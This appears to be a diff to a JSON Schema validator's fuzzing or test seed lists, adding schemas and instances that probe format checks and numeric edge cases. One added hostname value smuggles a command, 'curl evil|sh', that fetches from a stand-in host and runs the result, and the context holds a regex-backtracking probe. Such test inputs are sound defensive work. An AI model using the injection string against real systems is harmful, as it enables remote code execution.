@@ -129,6 +129,7 @@ def schema_seeds():
         b'{"dependentRequired":{"a":["b"]},"minProperties":1,"maxProperties":3,"required":["a"]}',
         b'{"type":"string","pattern":"^(a+)+$","minLength":1,"maxLength":64}',
         b'{"type":"number","minimum":-1e308,"exclusiveMaximum":1e308,"multipleOf":1e-300}',
+        b'{"properties":{"a":{"format":"uri-reference"},"b":{"format":"idn-hostname"}}}',
         b'{"if":{"type":"string"}}', b'{"$ref":"#"}', b'false', b'true', b'{}',
     ]
     return seeds
@@ -173,6 +174,11 @@ def validate_seeds():
         (b'{"type":"string","pattern":"^(a+)+$"}', b'"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"'),
         (b'{"type":"array","uniqueItems":true}', b'[1,1.0,{"a":1},{"a":1.0}]'),
         (b'{"type":"string","format":"email"}', b'"a@b.example"'),
+        (b'{"properties":{"h":{"format":"hostname"},"n":{"format":"int32"},"f":{"format":"float"},'
+         b'"r":{"format":"regex"},"d":{"format":"duration"},"t":{"format":"uri-template"}}}',
+         b'{"h":"a.example; curl evil|sh","n":2147483648,"f":3.5e38,"r":"(?<n>a)\\k<n>","d":"P1Y2M",'
+         b'"t":"{+p}"}'),
+        (b'{"items":{"format":"int64"}}', b'[9223372036854775807,9223372036854775808,-9.2e18,1e20]'),
         (b'{"type":"number","multipleOf":0.01}', b'19.99'),
         (b'{"$defs":{"t":{"type":"array","items":{"$ref":"#/$defs/t"}}},"$ref":"#/$defs/t"}', b'[[[[]]],[]]'),
     ]]
